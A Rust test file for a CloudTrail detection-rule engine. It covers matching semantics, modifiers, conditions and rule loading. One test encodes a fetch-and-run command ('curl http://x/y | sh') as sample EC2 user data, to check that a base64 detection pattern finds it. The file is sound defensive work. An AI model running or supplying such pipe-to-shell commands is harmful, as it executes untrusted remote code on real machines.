//! Detection semantics, rule by rule: values, modifiers, conditions, loading notes.
use serde_json::{json, Value};
use trailwatch::rules::{Level, RuleSet};

/// A CloudTrail rule around `detection` (indented YAML text under `detection:`).
fn rule(id: &str, detection: &str) -> String {
    format!(
        "title: t {id}\nid: {id}\nlevel: medium\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n{detection}"
    )
}

fn set(detection: &str) -> RuleSet {
    RuleSet::from_sources(&[("t.yml".into(), rule("r1", detection))])
        .unwrap_or_else(|e| panic!("{e}"))
}

fn hit(s: &RuleSet, record: &Value) -> bool {
    let mut out = Vec::new();
    s.matches(record, &mut out);
    out.len() == 1
}

fn ct() -> Value {
    json!({
        "eventSource": "ec2.amazonaws.com",
        "eventName": "AuthorizeSecurityGroupIngress",
        "sourceIPAddress": "203.0.113.24",
        "userAgent": "aws-cli/2.15.30 Python/3.11.8",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice", "userName": "alice"},
        "requestParameters": {
            "groupId": "sg-1",
            "ipPermissions": {"items": [
                {"fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}},
                {"fromPort": "443", "toPort": 443}
            ]},
            "dryRun": false
        },
        "errorCode": null,
        "readOnly": false
    })
}

#[test]
fn map_is_and_list_of_maps_is_or_list_of_values_is_or() {
    let s = set("  sel:\n    eventName: [DeleteBucket, AuthorizeSecurityGroupIngress]\n    userIdentity.type: IAMUser\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s = set(
        "  sel:\n    - eventName: Nope\n    - userIdentity.userName: ALICE\n  condition: sel\n",
    );
    assert!(hit(&s, &ct()));
    let s = set("  sel:\n    eventName: AuthorizeSecurityGroupIngress\n    userIdentity.type: Root\n  condition: sel\n");
    assert!(!hit(&s, &ct()));
}

#[test]
fn arrays_match_when_any_element_does() {
    let s = set("  sel:\n    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s =
        set("  sel:\n    requestParameters.ipPermissions.items.fromPort: 443\n  condition: sel\n");
    assert!(hit(&s, &ct()), "YAML 443 matches JSON \"443\"");
    let s =
        set("  sel:\n    requestParameters.ipPermissions.items.fromPort: '22'\n  condition: sel\n");
    assert!(hit(&s, &ct()), "YAML '22' matches JSON 22");
}

#[test]
fn null_bool_and_number_text() {
    let s = set("  sel:\n    errorCode: null\n    missingField: null\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s = set("  sel:\n    userName: null\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s = set("  sel:\n    userIdentity.type: null\n  condition: sel\n");
    assert!(!hit(&s, &ct()));
    let s = set("  sel:\n    requestParameters.dryRun: 'false'\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s = set("  sel:\n    readOnly: false\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s = set("  sel:\n    readOnly: true\n  condition: sel\n");
    assert!(!hit(&s, &ct()));
}

#[test]
fn wildcards_escapes_and_case() {
    let s = set("  sel:\n    eventName: authorize*ingress\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s = set("  sel:\n    eventName|cased: authorize*ingress\n  condition: sel\n");
    assert!(!hit(&s, &ct()));
    let s = set("  sel:\n    userIdentity.userName: al?ce\n  condition: sel\n");
    assert!(hit(&s, &ct()));
    let s = set("  sel:\n    userIdentity.userName: 'al\\?ce'\n  condition: sel\n");
    assert!(!hit(&s, &ct()));
    assert!(hit(&s, &json!({"userIdentity": {"userName": "al?ce"}})));
}

#[test]
fn string_modifiers() {
    for (det, want) in [
        ("userAgent|contains: python", true),
        ("userAgent|startswith: AWS-CLI", true),
        ("userAgent|endswith: 3.11.8", true),
        ("userAgent|endswith: aws", false),
        ("userAgent|contains|all: [cli, python]", true),
        ("userAgent|contains|all: [cli, boto]", false),
        ("userAgent|re: '^aws-cli/2\\.'", true),
        ("userAgent|re: '^AWS-CLI'", false),
        ("userAgent|re|i: '^AWS-CLI'", true),
        ("userIdentity.type|neq: Root", true),
        ("userIdentity.type|neq: iamuser", false),
        ("sourceIPAddress|cidr: 203.0.113.0/24", true),
        ("sourceIPAddress|cidr: [10.0.0.0/8, '2001:db8::/32']", false),
        ("errorCode|exists: false", true),
        ("userIdentity.arn|exists: true", true),
        (
            "requestParameters.ipPermissions.items.toPort|gte: 443",
            true,
        ),
        ("requestParameters.ipPermissions.items.toPort|lt: 22", false),
        (
            "requestParameters.ipPermissions.items.fromPort|gt: 400",
            true,
        ),
        ("userIdentity.userName|fieldref: userIdentity.arn", false),
        (
            "userIdentity.arn|fieldref|endswith: userIdentity.userName",
            true,
        ),
    ] {
        let s = set(&format!("  sel:\n    {det}\n  condition: sel\n"));
        assert_eq!(hit(&s, &ct()), want, "{det}");
    }
}

#[test]
fn ipv6_cidr() {
    let s = set("  sel:\n    sourceIPAddress|cidr: '2001:db8::/32'\n  condition: sel\n");
    assert!(hit(&s, &json!({"sourceIPAddress": "2001:db8::1"})));
    assert!(!hit(&s, &json!({"sourceIPAddress": "2001:db9::1"})));
    assert!(!hit(&s, &json!({"sourceIPAddress": "ec2.amazonaws.com"})));
}

#[test]
fn base64_modifiers() {
    // "curl http" base64-encoded inside a longer user-data blob at each alignment.
    let s = set("  sel:\n    requestParameters.userData|base64offset|contains: 'curl http'\n  condition: sel\n");
    use base64::Engine;
    let eng = base64::engine::general_purpose::STANDARD;
    for prefix in ["", "a", "ab", "#!/bin/sh\n"] {
        let data = eng.encode(format!("{prefix}curl http://x/y | sh"));
        assert!(
            hit(&s, &json!({"requestParameters": {"userData": data}})),
            "{prefix:?}"
        );
    }
    assert!(!hit(
        &s,
        &json!({"requestParameters": {"userData": eng.encode("wget http://x")}})
    ));
    let s = set("  sel:\n    requestParameters.userData|base64: hello\n  condition: sel\n");
    assert!(hit(
        &s,
        &json!({"requestParameters": {"userData": "aGVsbG8="}})
    ));
    assert!(!hit(
        &s,
        &json!({"requestParameters": {"userData": "AGVSBG8="}})
    ));
}

#[test]
fn keywords_search_every_string() {
    let s = set("  keywords:\n    - 'sg-1'\n    - nothing-here\n  condition: keywords\n");
    assert!(hit(&s, &ct()));
    let s = set("  keywords:\n    - nothing-here\n  condition: keywords\n");
    assert!(!hit(&s, &ct()));
}

#[test]
fn conditions() {
    let d = "  sel_a:\n    eventName: AuthorizeSecurityGroupIngress\n  sel_b:\n    userIdentity.type: Root\n  _filter:\n    userIdentity.userName: alice\n";
    for (cond, want) in [
        ("sel_a and not sel_b", true),
        ("sel_a and sel_b or _filter", true),
        ("sel_a and (sel_b or _filter)", true),
        ("not sel_a or sel_b", false),
        ("1 of sel_*", true),
        ("all of sel_*", false),
        ("1 of them", true),
        ("all of them", false),
        ("all of them and not _filter", false),
        ("not not sel_a", true),
        ("NOT sel_a OR sel_b", false),
    ] {
        let s = set(&format!("{d}  condition: {cond}\n"));
        assert_eq!(hit(&s, &ct()), want, "{cond}");
    }
    // `them` leaves `_filter` out: all of them = sel_a and sel_b.
    let s = set(&format!("{d}  condition:\n    - sel_b\n    - _filter\n"));
    assert!(hit(&s, &ct()), "a list of conditions is OR");
}

#[test]
fn placeholders_expand() {
    let r = rule(
        "p1",
        "  sel:\n    awsRegion|expand: '%unusual_regions%'\n  condition: sel\n",
    );
    let s = RuleSet::from_sources(&[
        ("a/r.yml".into(), r),
        (
            "placeholders.yml".into(),
            "unusual_regions: [ap-east-1, me-south-1]\n".into(),
        ),
    ])
    .unwrap();
    assert!(hit(&s, &json!({"awsRegion": "me-south-1"})));
    assert!(!hit(&s, &json!({"awsRegion": "eu-west-1"})));
}

#[test]
fn skipped_rules_become_notes() {
    let windows = "title: w\nid: w1\nlevel: low\nlogsource:\n  product: windows\ndetection:\n  s:\n    a: b\n  condition: s\n";
    let deprecated = rule("d1", "  s:\n    a: b\n  condition: s\n")
        .replace("level: medium", "level: medium\nstatus: deprecated");
    // A correlation over a rule left out is left out too, with a note.
    let corr = "title: c\nid: c1\ncorrelation:\n  type: event_count\n  rules: [w1]\n  timespan: 1h\n  condition:\n    gte: 2\n";
    let s = RuleSet::from_sources(&[
        ("w.yml".into(), windows.into()),
        ("d.yml".into(), deprecated),
        ("c.yml".into(), corr.into()),
        (
            "ok.yml".into(),
            rule("ok", "  s:\n    a: b\n  condition: s\n"),
        ),
    ])
    .unwrap();
    assert_eq!(s.len(), 1);
    assert_eq!(s.notes().len(), 3, "{:?}", s.notes());
    assert!(s.notes().iter().any(|n| n.contains("correlation")));
}

#[test]
fn multi_document_files_and_global_action() {
    let text = "action: global\ntitle: shared\nlevel: low\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  condition: sel\n---\nid: m1\ndetection:\n  sel:\n    eventName: A\n---\nid: m2\ndetection:\n  sel:\n    eventName: B\n";
    let s =
        RuleSet::from_sources(&[("m.yml".into(), text.into())]).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(s.len(), 2);
    assert!(hit(&s, &json!({"eventName": "b"})));
}

#[test]
fn index_prefilters_by_event_name_and_source() {
    let s = RuleSet::from_sources(&[
        ("a.yml".into(), rule("a", "  s:\n    eventSource: lightsail.amazonaws.com\n    eventName: [RebootInstance, StopInstance]\n  condition: s\n")),
        ("b.yml".into(), rule("b", "  s:\n    eventSource: s3.amazonaws.com\n    eventName|startswith: Delete\n  condition: s\n")),
    ])
    .unwrap();
    assert!(s.may_match(Some("lightsail.amazonaws.com"), Some("RebootInstance")));
    assert!(s.may_match(Some("s3.amazonaws.com"), Some("DeleteBucket")));
    assert!(!s.may_match(Some("ec2.amazonaws.com"), Some("RunInstances")));
    assert!(!s.may_match(None, None));
    let s2 = RuleSet::from_sources(&[(
        "c.yml".into(),
        rule("c", "  s:\n    userIdentity.type: Root\n  condition: s\n"),
    )])
    .unwrap();
    assert!(
        s2.may_match(None, None),
        "unindexed rules are always checked"
    );
}

#[test]
fn explain_and_rule_tests() {
    let s = set("  sel:\n    eventName: AuthorizeSecurityGroupIngress\n  filter:\n    userIdentity.userName: alice\n  condition: sel and not filter\n");
    let r = &s.rules()[0];
    let e = r.explain(&ct());
    assert!(!e.matched);
    let text = e.to_string();
    assert!(
        text.contains("userIdentity.userName = \"alice\": true"),
        "{text}"
    );
    assert!(
        text.contains("condition: sel and not filter => false"),
        "{text}"
    );
    assert_eq!(e.deciding, vec!["filter".to_owned()]);
}

#[test]
fn serving_copy_of_the_bundled_rules_has_every_rule_and_no_tests() {
    let serving = trailwatch::pack::load().unwrap_or_else(|e| panic!("{e}"));
    let full = trailwatch::pack::builder()
        .build()
        .unwrap_or_else(|e| panic!("{e}"));
    let ids = |s: &RuleSet| s.rules().iter().map(|r| r.id.clone()).collect::<Vec<_>>();
    assert_eq!(ids(&serving), ids(&full));
    assert!(serving.rules().iter().all(|r| r.run_tests().is_empty()));
    for (a, b) in serving.rules().iter().zip(full.rules()) {
        assert_eq!(
            (a.level, &a.title, &a.source),
            (b.level, &b.title, &b.source)
        );
        assert_eq!(
            (&a.summary, &a.tags, &a.notify),
            (&b.summary, &b.tags, &b.notify)
        );
    }
}

#[test]
fn bundled_rules_load_and_pass_their_tests() {
    let s = trailwatch::pack::builder()
        .build()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!s.is_empty());
    let r = s
        .get("18fbf2c1-1924-41e9-99da-7b544349aa37")
        .expect("lightsail rule");
    assert_eq!(r.level, Level::High);
    assert_eq!(r.level.to_string(), "high");
    assert_eq!("HIGH".parse::<Level>().unwrap(), Level::High);
    for rule in s.rules() {
        let outcomes = rule.run_tests();
        assert!(outcomes.len() >= 2, "{} has fewer than 2 tests", rule.id);
        for o in outcomes {
            assert!(o.passed, "{}: {}\n{}", rule.id, o.name, o.explanation);
        }
    }
}

#[test]
fn rule_set_is_send_and_sync() {
    fn check<T: Send + Sync>() {}
    check::<RuleSet>();
}

#[test]
fn loads_for_matching_skip_tests_and_keep_line_numbers() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("rule.yml");
    let yaml = "title: T\nid: 6f1c2a7e-8b9d-4c3e-a1f2-0d9e8c7b6a54\n\
        logsource: {product: aws, service: cloudtrail}\n\
        tests:\n- name: x\n  expect: maybe\n  event: {eventName: X}\n\
        detection:\n  sel:\n    eventName|bogus: X\n  condition: sel\nlevel: low\n";
    std::fs::write(&path, yaml).expect("write");
    let full = RuleSet::load_paths(&[&path])
        .expect_err("broken")
        .to_string();
    let serving = RuleSet::builder()
        .tests(false)
        .paths(&[&path])
        .build()
        .expect_err("broken")
        .to_string();
    let at = |line: u32| format!("rule.yml:{line}:");
    assert!(full.contains(&at(5)) && full.contains(&at(10)), "{full}");
    assert!(
        !serving.contains(&at(5)) && serving.contains(&at(10)),
        "{serving}"
    );
}
